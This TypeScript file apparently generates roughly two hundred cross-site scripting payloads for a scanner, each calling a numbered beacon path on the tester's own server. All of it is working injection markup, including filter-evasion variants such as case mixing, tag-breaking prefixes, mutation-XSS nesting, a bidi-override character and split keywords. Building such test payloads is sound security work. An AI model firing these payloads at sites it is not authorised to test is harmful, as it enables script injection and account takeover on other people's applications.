/** Two hundred ways to have a browser run something, each of which would ask for a path on our own server if it did. */

/** Ways to reach the beacon without a word in quotes. */
const calls = (path: string): string[] => [
  `fetch('${path}')`,
  `new Image().src='${path}'`,
  `import('${path}')`,
  `navigator.sendBeacon('${path}')`,
  `self['fet'+'ch']('${path}')`,
];

/** Markup that runs `code` by itself once it is put into a page as HTML. */
const shapes: readonly ((code: string, path: string) => string)[] = [
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg onload="${code}">`,
  (code) => `"><img src=x onerror="${code}">`,
  (code) => `'><svg/onload="${code}">`,
  (code) => `</script><img src=x onerror="${code}">`,
  (code) => `</textarea><img src=x onerror="${code}">`,
  (code) => `</title><svg onload="${code}">`,
  (code) => `<IMG SRC=x OnErRoR="${code}">`,
  (code) => `<img/src=x/onerror="${code}">`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code) => `<video src=x onerror="${code}">`,
  (code) => `<audio src=x onerror="${code}"></audio>`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<details open ontoggle="${code}">x</details>`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<iframe srcdoc="<script>${code.replaceAll('"', '&quot;')}</script>"></iframe>`,
  (code) => `<iframe onload="${code}"></iframe>`,
  (code) => `<script>${code}</script>`,
  (code) => `<style>@keyframes x{}</style><b style="animation:x" onanimationstart="${code}">x</b>`,
  (code) => `<a href="javascript:${code}">click</a>`,
  (code) => `javascript:${code}`,
  (code) => `{{constructor.constructor("${code}")()}}`,
  (code) => `\${${code}}`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror="${code}">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror='${code.replaceAll("'", '&#39;')}'>">`,
  (code) => `<body onload="${code}">`,
  (code) => `\u202e<svg onload="${code}">\u202c`,
  (code) => `<!--><img src=x onerror="${code}">-->`,
  (code) => `<embed src="data:text/html,<script>${encodeURIComponent(code)}</script>">`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<marquee onstart="${code}">x</marquee>`,
  (code) => `<form><button formaction="javascript:${code}">x</button></form>`,
  (code) => `&lt;img src=x onerror="${code}"&gt;`,
  (code) => `%3Cimg%20src=x%20onerror="${code}"%3E`,
  (code) => `\\u003cimg src=x onerror="${code}"\\u003e`,
  (_, path) => `<img src="${path}">`,
  (_, path) => `<link rel=stylesheet href="${path}">`,
  (_, path) => `<style>@import "${path}";</style>`,
  (_, path) => `<iframe src="${path}"></iframe>`,
  (_, path) => `<meta http-equiv=refresh content="0;url=${path}">`,
];

/** @param beacon path, to which each adds its number */
export function payloads(beacon: string): string[] {
  return shapes.flatMap((shape, at) =>
    calls('').map((_, which) => {
      const path = `${beacon}${at * 5 + which}`;
      return shape(calls(path)[which]!, path);
    }),
  );
}
